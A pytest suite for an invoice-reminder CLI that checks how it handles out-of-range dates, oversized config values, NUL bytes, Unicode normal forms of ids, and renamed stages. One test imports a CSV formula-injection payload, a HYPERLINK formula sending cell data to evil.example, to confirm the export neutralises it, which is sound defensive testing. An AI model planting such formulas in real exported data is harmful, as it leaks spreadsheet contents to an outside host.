"""Inputs that used to break the ledger or the process (issue 9, part 4, and renamed stages):
out-of-range dates, huge numbers and NUL bytes in the config, ids in two Unicode normal forms,
formula cells in CSV output, and a stage renamed under dispatches already made. Each through
the real binary and a real SQLite file."""
import csv
import io
import json
import signal
import sqlite3
import time
import unicodedata

import pytest

from conftest import DEFAULT_STAGES, invoice_row, run_overdue


def plan(ws, *args):
    out = ws.run("plan", "--format", "json", *args, check=0).stdout
    return [json.loads(line) for line in out.splitlines()]


def outbox_count(ws):
    return len(list(ws.outbox.glob("*.eml"))) if ws.outbox.exists() else 0


# --- 1. Dates outside the four-digit years --------------------------------------------------

@pytest.mark.parametrize("as_of", ["9999-12-31T23:30:00Z", "9999-12-31", "0001-01-01T00:30:00+01:00", "0001-01-01"])
def test_as_of_outside_the_supported_dates_is_refused_with_64_and_the_ledger_stays_usable(ws, as_of):
    ws.run("import", ws.write_csv("a.csv", [invoice_row("INV-1")]), check=0)
    refused = ws.run("tick", "--as-of", as_of, check=64)
    assert refused.stderr.startswith("--as-of:") and "0001-01-02 to 9999-12-30" in refused.stderr
    ws.run("plan", "--as-of", as_of, check=64)
    for args in (["plan"], ["status"], ["invoice", "show", "INV-1"], ["preview", "INV-1", "--stage", "reminder-7"], ["tick", "--as-of", "2026-03-09"]):
        ws.run(*args, check=0)


def test_the_last_supported_instant_in_berlin_still_stores_a_four_digit_date(ws):
    ws.run("import", ws.write_csv("a.csv", [invoice_row("INV-1")]), check=0)
    ws.run("tick", "--as-of", "9999-12-30T23:30:00Z", check=0)
    with sqlite3.connect(ws.db_path) as db:
        assert db.execute("SELECT local_date FROM dispatches").fetchall() == [("9999-12-31",)]
    for args in (["plan"], ["status"], ["invoice", "show", "INV-1"], ["tick"]):
        ws.run(*args, check=0)


def test_a_five_digit_year_already_stored_does_not_make_every_command_fail(ws):
    ws.run("import", ws.write_csv("a.csv", [invoice_row("INV-1")]), check=0)
    ws.run("tick", "--as-of", "2026-03-09", check=0)
    with sqlite3.connect(ws.db_path) as db:   # as an older overdue wrote it
        db.execute("UPDATE dispatches SET local_date = '10000-01-01'")
    for args in (["plan"], ["status"], ["invoice", "show", "INV-1"], ["preview", "INV-1", "--stage", "reminder-7"], ["tick", "--as-of", "2026-04-09"]):
        ws.run(*args, check=0)


def test_dates_outside_the_supported_range_are_refused_in_csv_payments_and_holidays(ws):
    bad = ws.run("import", ws.write_csv("a.csv", [invoice_row("INV-1", due="9999-12-31", issue_date="2025-01-01")]), check=65)
    assert ":2: due_date:" in bad.stderr and "outside the supported dates" in bad.stderr
    ws.run("import", ws.write_csv("b.csv", [invoice_row("INV-2", issue_date="0001-01-01")]), check=65)
    ws.run("import", ws.write_csv("c.csv", [invoice_row("INV-3")]), check=0)
    paid = ws.run("invoice", "pay", "INV-3", "1.00", "--on", "9999-12-31", check=64)
    assert paid.stderr.startswith("--on:")
    ws.write_config(send_window='holidays = ["2026-12-25", "9999-12-31"]\n')
    checked = ws.run("config", "check", check=78)
    assert "send_window.holidays" in checked.stderr and "9999-12-31" in checked.stderr


# --- 2. Numbers in the config are bounded ---------------------------------------------------

@pytest.mark.parametrize("section,line,key", [
    ("delivery", 'min_days_between = 9223372036854775807', "delivery.min_days_between"),
    ("delivery", 'min_days_between = -1', "delivery.min_days_between"),
    ("delivery", 'give_up_after = "99999999999999d"', "delivery.give_up_after"),
    ("delivery", 'retry = ["5m", "99999999999999d"]', "delivery.retry"),
    ("delivery", 'retry = ["5m", "9999999999999999999999s"]', "delivery.retry"),
    ("daemon", 'interval = "99999999999999d"', "daemon.interval"),
    ("daemon", 'interval = "2d"', "daemon.interval"),
    ("smtp", 'timeout = "99999999999999d"', "smtp.timeout"),
])
def test_a_number_out_of_range_in_the_config_is_refused_with_file_line_and_key(ws, section, line, key):
    defaults = {
        "daemon": f'interval = "15m"\ntimezone = "Europe/Berlin"\ndatabase = "{ws.db_path}"\n',
        "smtp": f'url = "file://{ws.outbox}"\ntimeout = "10s"\n',
        "delivery": 'retry = ["5m", "30m", "2h", "8h"]\ngive_up_after = "3d"\nmin_days_between = 3\n',
    }
    name = line.split(" =")[0]
    body = "\n".join(line if l.startswith(name + " =") else l for l in defaults[section].splitlines()) + "\n"
    ws.write_config(**{section: body})
    number = ws.config_path.read_text().splitlines().index(line) + 1
    for args in (["config", "check"], ["status"], ["plan"]):
        result = ws.run(*args, check=78)
        assert result.stderr.startswith(f"{ws.config_path}:{number}: {key}:"), result.stderr
    proc = run_overdue("run", "--config", ws.config_path, timeout=20)
    assert proc.returncode == 78 and key in proc.stderr


@pytest.mark.parametrize("days", ["9223372036854775807", "-9223372036854775808", "36501"])
def test_stage_days_out_of_range_are_refused(ws, days):
    ws.write_config(stages=DEFAULT_STAGES.replace("days = 90", f"days = {days}"))
    result = ws.run("config", "check", check=78)
    assert "stage[6].days:" in result.stderr and "out of range" in result.stderr


def test_the_largest_accepted_numbers_work_end_to_end(ws):
    ws.write_config(delivery='retry = ["30d"]\ngive_up_after = "365d"\nmin_days_between = 3650\n',
                    smtp=f'url = "file://{ws.outbox}"\ntimeout = "1h"\n',
                    daemon=f'interval = "1d"\ntimezone = "Europe/Berlin"\ndatabase = "{ws.db_path}"\n')
    ws.run("config", "check", check=0)
    ws.run("import", ws.write_csv("a.csv", [invoice_row("INV-1")]), check=0)
    ws.run("tick", "--as-of", "9999-12-30", check=0)
    ws.run("status", check=0)
    ws.run("plan", "--as-of", "9999-12-30", check=0)


# --- 3. NUL bytes ------------------------------------------------------------------------------

def test_a_nul_byte_in_the_config_is_refused_with_its_line(ws):
    text = ws.config_text()
    text = text.replace('[business]', '# note\x00\n[send_window]\ndays = ["mon"]\n\n[business]')
    ws.config_path.write_bytes(text.encode())
    number = text[:text.index("\x00")].count("\n") + 1
    result = ws.run("config", "check", check=78)
    assert result.stderr.startswith(f"{ws.config_path}:{number}:") and "NUL" in result.stderr
    ws.run("plan", check=78)


def test_a_nul_byte_in_a_template_is_refused(ws):
    (ws.templates / "reminder-7.txt").write_bytes(b"Dear {{client.name}},\n\x00 pay now\n")
    result = ws.run("config", "check", check=78)
    assert f"{ws.templates / 'reminder-7.txt'}:2:" in result.stderr and "NUL" in result.stderr


# --- 4. One identity for ids in two Unicode normal forms ------------------------------------

NFC = unicodedata.normalize("NFC", "müller")
NFD = unicodedata.normalize("NFD", "müller")


def test_one_file_with_a_client_id_in_nfc_and_nfd_imports_as_one_client(ws):
    assert NFC != NFD
    rows = [invoice_row("INV-1", client=NFC, client_name="Müller", client_email="ap@mueller.example"),
            invoice_row("INV-2", client=NFD, client_name="Müller", client_email="ap@mueller.example")]
    ws.run("import", ws.write_csv("a.csv", rows), check=0)
    clients = [json.loads(l) for l in ws.run("client", "list", "--format", "json", check=0).stdout.splitlines()]
    assert [c["id"] for c in clients] == [NFC]
    with sqlite3.connect(ws.db_path) as db:
        assert db.execute("SELECT DISTINCT client_id FROM invoices").fetchall() == [(NFC,)]


def test_a_client_id_in_either_normal_form_names_the_same_client_everywhere(ws):
    rows = [invoice_row("INV-1", client=NFD, client_name="Müller", client_email="ap@mueller.example"),
            invoice_row("INV-2", client="other", client_email="ap@other.example")]
    ws.run("import", ws.write_csv("a.csv", rows), check=0)
    ws.run("client", "show", NFC, check=0)
    ws.run("client", "block", NFC, check=0)
    lines = {l["invoice"]: l for l in plan(ws, "--all", "--as-of", "2026-03-09")}
    assert lines["INV-1"]["reason"] == "blocked" and lines["INV-1"]["client"] == NFC
    assert lines["INV-2"]["action"] == "email" and lines["INV-2"]["to"] == ["ap@other.example"]
    ws.run("client", "unblock", NFD, check=0)
    assert plan(ws, "--as-of", "2026-03-09")[0]["to"] == ["ap@mueller.example"]


def test_an_invoice_number_in_either_normal_form_is_one_invoice(ws):
    number_nfd = unicodedata.normalize("NFD", "RÉ-1")
    ws.run("import", ws.write_csv("a.csv", [invoice_row(number_nfd)]), check=0)
    ws.run("invoice", "show", unicodedata.normalize("NFC", "RÉ-1"), check=0)
    ws.run("invoice", "hold", number_nfd, check=0)
    ws.run("import", ws.write_csv("b.csv", [invoice_row(unicodedata.normalize("NFC", "RÉ-1"))]), check=0)
    with sqlite3.connect(ws.db_path) as db:
        assert db.execute("SELECT number, hold FROM invoices").fetchall() == [(unicodedata.normalize("NFC", "RÉ-1"), 1)]


def test_invoice_add_and_audit_filters_normalise_their_ids(ws):
    ws.run("invoice", "add", "INV-1", "--client", NFD, "--client-name", "Müller", "--client-email", "ap@mueller.example",
           "--issued", "2026-01-01", "--due", "2026-02-01", "--amount", "10.00", "--currency", "EUR", check=0)
    ws.run("invoice", "add", "INV-2", "--client", NFC, "--issued", "2026-01-01", "--due", "2026-02-01",
           "--amount", "10.00", "--currency", "EUR", check=0)
    with sqlite3.connect(ws.db_path) as db:
        assert db.execute("SELECT id FROM clients").fetchall() == [(NFC,)]
    entries = ws.run("audit", "--format", "json", "--client", NFD, "--event", "invoice.added", check=0).stdout.splitlines()
    assert len(entries) == 2


def nfd_ledger(ws, *client_ids):
    """A ledger as an older overdue left it: client ids stored as imported, not normalised."""
    ws.run("import", ws.write_csv("a.csv", [invoice_row("INV-0")]), check=0)
    with sqlite3.connect(ws.db_path) as db:
        db.execute("DELETE FROM meta WHERE key = 'identifiers_form'")
        for i, cid in enumerate(client_ids):
            db.execute("INSERT INTO clients (id, name, emails, created_at, updated_at) VALUES (?, 'M', 'ap@m.example', 0, 0)", (cid,))
            db.execute("INSERT INTO invoices (number, client_id, issue_date, due_date, currency, amount_minor, status,"
                       " created_at, updated_at) VALUES (?, ?, '2025-11-01', '2026-03-01', 'EUR', 100, 'open', 0, 0)",
                       (f"INV-{i + 1}", cid))


def test_an_existing_ledger_with_nfd_ids_is_normalised_once(ws):
    nfd_ledger(ws, NFD)
    ws.run("client", "block", NFC, check=0)
    with sqlite3.connect(ws.db_path) as db:
        assert db.execute("SELECT id, blocked FROM clients WHERE id <> 'acme'").fetchall() == [(NFC, 1)]
        assert db.execute("SELECT client_id FROM invoices WHERE number = 'INV-1'").fetchone() == (NFC,)


def test_an_existing_ledger_with_one_id_in_both_forms_is_refused_naming_both(ws):
    nfd_ledger(ws, NFD, NFC)
    result = ws.run("plan", check=65)
    assert "differ only in Unicode normal form" in result.stderr and "\\u{308}" in result.stderr


# --- 5. CSV output neutralises formulas -----------------------------------------------------

def test_audit_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(ws):
    number = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    rows = [invoice_row(number, client="+cmd", client_email="ap@cmd.example"),
            invoice_row("-5", client="@sum", client_email="ap@sum.example"), invoice_row("INV-1", client="acme")]
    ws.run("import", ws.write_csv("a.csv", rows), check=0)
    out = ws.run("audit", "--format", "csv", check=0).stdout
    table = list(csv.DictReader(io.StringIO(out)))
    imported = {r["invoice"]: r for r in table if r["event"] == "invoice.imported"}
    assert set(imported) == {"'" + number, "'-5", "INV-1"}
    assert imported["'" + number]["client"] == "'+cmd" and imported["'-5"]["client"] == "'@sum"
    for row in table:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values() if cell), row


# --- 6. A renamed stage is not a new stage --------------------------------------------------

RENAMED = DEFAULT_STAGES.replace('name = "reminder-7"', 'name = "reminder-week"')


def sent_reminder_7(ws):
    ws.run("import", ws.write_csv("a.csv", [invoice_row("INV-1"), invoice_row("INV-2", client="beta")]), check=0)
    ws.run("tick", "--as-of", "2026-03-09", check=0)
    assert outbox_count(ws) == 2


def test_renaming_a_stage_with_dispatches_is_refused_with_78(ws):
    sent_reminder_7(ws)
    ws.write_config(stages=RENAMED)
    for args in (["config", "check"], ["tick", "--as-of", "2026-03-12"]):
        result = ws.run(*args, check=78)
        assert "reminder-7" in result.stderr and "renamed_from" in result.stderr and str(ws.config_path) in result.stderr
    proc = run_overdue("run", "--config", ws.config_path, timeout=20)
    assert proc.returncode == 78 and "reminder-7" in proc.stderr
    assert outbox_count(ws) == 2


def test_a_stage_that_says_it_was_renamed_keeps_its_place_on_the_ladder(ws):
    sent_reminder_7(ws)
    ws.write_config(stages=RENAMED.replace('name = "reminder-week"', 'name = "reminder-week"\nrenamed_from = ["reminder-7"]'))
    ws.run("config", "check", check=0)
    ws.run("tick", "--as-of", "2026-03-12", check=0)
    assert outbox_count(ws) == 2
    assert all(l["reason"] == "done" for l in plan(ws, "--all", "--as-of", "2026-03-12"))
    ws.run("tick", "--as-of", "2026-03-31", check=0)
    assert outbox_count(ws) == 4   # reminder-30 is next, as before the rename


def test_renamed_from_is_checked(ws):
    ws.write_config(stages=DEFAULT_STAGES.replace('name = "reminder-30"', 'name = "reminder-30"\nrenamed_from = ["friendly"]'))
    assert "is the name of stage[2]" in ws.run("config", "check", check=78).stderr
    ws.write_config(stages=DEFAULT_STAGES.replace('name = "reminder-30"', 'name = "reminder-30"\nrenamed_from = ["Old Name"]'))
    assert "stage[4].renamed_from" in ws.run("config", "check", check=78).stderr


def test_config_check_without_a_ledger_does_not_create_one(ws):
    ws.write_config(stages=RENAMED)
    ws.run("config", "check", check=0)
    assert not ws.db_path.exists()


def test_sighup_with_a_stage_renamed_under_its_dispatches_keeps_the_running_config(ws):
    from test_daemon_run import start_daemon, wait_for
    sent_reminder_7(ws)

    def events(name):
        out = ws.run("audit", "--format", "json", "--event", name, check=0).stdout
        return [json.loads(line) for line in out.splitlines()]

    proc = start_daemon(ws)
    try:
        wait_for(lambda: len(events("tick.finished")) == 2, what="the daemon's first tick")
        ws.write_config(stages=RENAMED)
        proc.send_signal(signal.SIGHUP)
        rejected = wait_for(lambda: events("config.rejected"), what="config.rejected")
        assert "reminder-7" in rejected[0]["details"]["error"]
        time.sleep(0.3)
        assert proc.poll() is None, "the daemon keeps running on the old config"
    finally:
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=10) == 0
